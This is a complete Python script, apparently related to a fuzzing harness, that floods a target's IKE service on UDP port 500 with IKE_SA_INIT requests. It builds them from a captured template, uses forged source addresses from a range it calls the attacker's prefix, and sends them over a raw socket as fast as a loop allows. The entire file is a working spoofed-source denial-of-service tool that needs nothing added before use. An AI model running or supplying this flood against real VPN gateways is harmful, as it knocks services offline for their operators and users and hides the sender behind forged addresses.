"""flood.py DST TEMPLATE SECONDS: IKE_SA_INIT requests to DST port 500 as
fast as one Python loop sends them, each from a random source address in
203.0.113.0/24 (the attacker's prefix) and with a random initiator SPI, built on a captured
request (TEMPLATE: a fuzz seed whose first byte is the harness mode).
Prints the packets sent per second."""
import os
import random
import socket
import struct
import sys
import time

dst, template, seconds = sys.argv[1], open(sys.argv[2], "rb").read()[1:], float(sys.argv[3])
pkts = []
for i in range(4096):
    ike = os.urandom(8) + template[8:]
    udp = struct.pack("!HHHH", 500, 500, 8 + len(ike), 0) + ike
    src = socket.inet_aton("203.0.113.%d" % random.randint(2, 254))
    # The kernel fills in the IP checksum and length for IP_HDRINCL.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i, 0, 64, 17, 0, src,
                     socket.inet_aton(dst))
    pkts.append(ip + udp)
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
to, n, end = (dst, 0), 0, time.monotonic() + seconds
while time.monotonic() < end:
    for p in pkts[n % 4096:n % 4096 + 256]:
        try:
            s.sendto(p, to)
        except OSError:
            pass
    n += 256
print(int(n / seconds))
